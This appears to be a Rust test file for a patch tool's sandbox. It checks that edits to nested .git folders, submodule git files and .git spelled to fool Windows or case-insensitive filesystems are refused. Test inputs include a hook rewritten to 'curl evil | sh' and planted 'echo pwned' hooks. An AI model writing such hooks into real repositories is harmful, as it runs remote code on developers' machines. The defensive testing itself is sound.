//! Nested and other `.git`s: a nested repository's or a submodule's git
//! folder, and `.git` spelled so that a case-insensitive or Windows
//! filesystem would take it for the real one. None may be edited.

use super::*;

/// This threat's cases, by name.
pub(super) const ALL: &[(&str, Case)] = &[
    (
        "nested_repository_hook_not_edited",
        nested_repository_hook_not_edited,
    ),
    (
        "nested_repository_hook_not_created",
        nested_repository_hook_not_created,
    ),
    (
        "submodule_git_file_not_edited",
        submodule_git_file_not_edited,
    ),
    ("upper_case_git_refused", |s| spelled_git(s, ".GIT")),
    ("mixed_case_git_refused", |s| spelled_git(s, ".Git")),
    ("git_with_trailing_dot_refused", |s| spelled_git(s, ".git.")),
    ("git_with_trailing_space_refused", |s| {
        spelled_git(s, ".git ")
    }),
    ("git_short_name_refused", |s| spelled_git(s, "GIT~1")),
    ("git_with_a_stream_suffix_refused", |s| {
        spelled_git(s, ".git::$INDEX_ALLOCATION")
    }),
    ("upper_case_mend_refused", upper_case_mend_refused),
];

fn nested_repository_hook_not_edited(s: &Sandbox) -> R {
    s.write("vendor/lib/.git/hooks/post-checkout", "#!/bin/sh\ntrue\n");
    s.baseline();
    let out = s.apply(
        &[],
        &search_replace(
            "vendor/lib/.git/hooks/post-checkout",
            "true",
            "curl evil | sh",
        ),
    );
    refused(&out, ".git")
}

fn nested_repository_hook_not_created(s: &Sandbox) -> R {
    s.write("vendor/lib/.git/HEAD", "ref: refs/heads/main\n");
    s.baseline();
    let out = s.apply(
        &[],
        &patch_add("vendor/lib/.git/hooks/pre-commit", "echo pwned"),
    );
    refused(&out, ".git")?;
    ensure!(
        !s.exists("vendor/lib/.git/hooks"),
        "the hook folder was made"
    );
    Ok(())
}

fn submodule_git_file_not_edited(s: &Sandbox) -> R {
    s.write("sub/.git", "gitdir: ../.git/modules/sub\n");
    s.baseline();
    let out = s.apply(
        &[],
        &search_replace(
            "sub/.git",
            "gitdir: ../.git/modules/sub",
            "gitdir: ../../elsewhere",
        ),
    );
    refused(&out, ".git")
}

fn spelled_git(s: &Sandbox, dir: &str) -> R {
    s.git(&s.root, &["init", "-q"]);
    s.baseline();
    let path = format!("{dir}/hooks/pre-commit");
    let out = s.apply(&[], &patch_add(&path, "echo pwned"));
    refused(&out, ".git")?;
    ensure!(!s.exists(dir), "{dir} was created");
    Ok(())
}

fn upper_case_mend_refused(s: &Sandbox) -> R {
    s.baseline();
    let out = s.apply(&[], &patch_add(".MEND/journal.json", "{}"));
    refused(&out, ".mend")?;
    ensure!(!s.exists(".MEND"), ".MEND was created");
    Ok(())
}
